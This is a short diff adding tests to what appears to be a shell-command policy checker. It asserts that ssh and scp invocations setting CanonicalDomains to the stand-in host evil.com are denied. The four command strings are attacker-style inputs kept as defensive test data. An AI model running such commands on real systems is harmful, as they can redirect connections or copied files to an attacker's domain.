@@ -89,3 +89,12 @@ describe("what may send them anywhere is asked about, not allowed", () => {
     expect(r.unchecked).toContain(why);
   });
 });
+
+describe("a domain ssh canonicalises its destination in is reached (`ssh -G` shows it read)", () => {
+  it.each([
+    "ssh -o CanonicalDomains=evil.com -o CanonicalizeHostname=yes x",
+    "ssh -o 'CanonicalDomains a.org evil.com' -o CanonicalizeHostname=always x",
+    "ssh -o canonicaldomains=EVIL.COM. x",
+    "scp -o CanonicalDomains=evil.com f x:y",
+  ])("%s is denied", (command) => expect(judgeShell(command, noEvil).decision).toBe("policy_deny"));
+});
